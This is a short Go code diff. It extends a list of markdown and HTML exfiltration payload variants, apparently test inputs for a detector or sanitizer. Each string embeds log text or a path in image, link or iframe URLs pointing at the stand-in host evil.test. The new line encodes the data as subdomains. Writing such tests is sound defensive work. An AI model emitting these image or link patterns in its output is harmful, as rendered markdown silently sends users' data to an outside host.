@@ -88,6 +88,7 @@ func spellings() (all []string) {
 		"<img src=\"data:image/svg+xml,<svg><image href='https://evil.test/?q="+logText+"'/></svg>\">", "<iframe srcdoc=\"<img src='https://evil.test/?q="+logText+"'>\">",
 		"[a](https://evil.test/?q=captain\\_earns\\_nine\\_hundred\\_guineas)", "[a](https\\://evil.test/?q=captain_earns_nine_hundred_guineas)", "![a](\\\\evil.test\\share\\"+path+".png)", "<img src=\"\\\\evil.test\\share\\"+path+".png\">",
 		eachOf("![](https://evil.test/?q=%s)\n", strings.Fields(logText)), eachOf("![](https://evil.test/%s)", piecesOf(logText, 6)), eachOf("<img src='//evil.test/?n=%s'>", piecesOf(url.QueryEscape(logText), 5)), eachOf("![](https://evil.test/a/%s.png) ", strings.Fields(logText)),
+		"![](https://"+strings.ReplaceAll(logText, " ", ".")+".evil.test/)", "<img src=\"//"+strings.ReplaceAll(logText, " ", ".")+".evil.test/a.png\">",
 		"[a](https://evil.test/"+strings.ReplaceAll(logText, " ", "%20")+")", "<a href=\"https://evil.test/"+logText+"\">", "<img src=\"https:evil.test/?q="+logText+"\">",
 		"[a](https://evil.test/redirect?to=https%3A%2F%2Fx.test%2F%3Fq%3D"+strings.ReplaceAll(logText, " ", "%2520")+")",
 	)
